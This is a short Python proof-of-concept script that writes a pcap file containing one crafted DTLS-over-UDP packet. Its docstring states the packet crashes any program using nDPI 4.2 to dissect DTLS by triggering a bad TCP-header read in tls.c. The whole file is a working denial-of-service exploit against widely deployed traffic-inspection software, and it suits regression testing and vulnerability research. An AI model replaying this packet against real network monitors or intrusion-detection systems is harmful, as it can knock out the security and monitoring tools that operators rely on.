#!/usr/bin/env python3
"""One UDP packet that ends any program that lets nDPI 4.2 dissect DTLS.

usage: crash_packet.py FILE [PORT]
       FILE  becomes a capture file with one Ethernet frame
       PORT  of the client, default 40000: another port is another flow
why    A DTLS certificate whose subject nDPI knows makes it read the TCP header of a packet that has
       none (tls.c, put right in 4.4). Hello and certificate fit one datagram.
"""

import struct
import sys


def handshake(kind, body):
    length = len(body).to_bytes(3, "big")
    message = bytes([kind]) + length + bytes(5) + length + body
    return b"\x16\xfe\xfd" + bytes(8) + struct.pack("!H", len(message)) + message


def datagram():
    # version, random, no session id, a cipher suite, no compression, no extensions
    hello = b"\xfe\xfd" + b"\x11" * 32 + b"\x00" + b"\xc0\x30" + b"\x00" + bytes(2)
    organisation = b"\x55\x04\x0a\x0c\x0aCloudflare"  # id-at-organizationName, UTF8String
    certificate = bytes(40) + organisation + bytes(80)
    chain = len(certificate).to_bytes(3, "big") + certificate
    return handshake(2, hello) + handshake(11, len(chain).to_bytes(3, "big") + chain)


def header_sum(octets):
    total = sum(struct.unpack(f"!{len(octets) // 2}H", octets))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def frame(port):
    payload = datagram()
    udp = struct.pack("!HHHH", 443, port, 8 + len(payload), 0) + payload
    ends = bytes([192, 0, 2, 1]) + bytes([198, 51, 100, 1])
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0) + ends
    ip = ip[:10] + struct.pack("!H", header_sum(ip)) + ip[12:]
    return bytes.fromhex("020000ffff01020000ffff020800") + ip + udp


def main():
    if len(sys.argv) not in (2, 3):
        print(__doc__, file=sys.stderr)
        return 2
    packet = frame(int(sys.argv[2]) if len(sys.argv) == 3 else 40_000)
    with open(sys.argv[1], "wb") as stream:
        stream.write(struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65_535, 1))
        stream.write(struct.pack("<IIII", 1_700_000_000, 0, len(packet), len(packet)) + packet)
    return 0


if __name__ == "__main__":
    sys.exit(main())
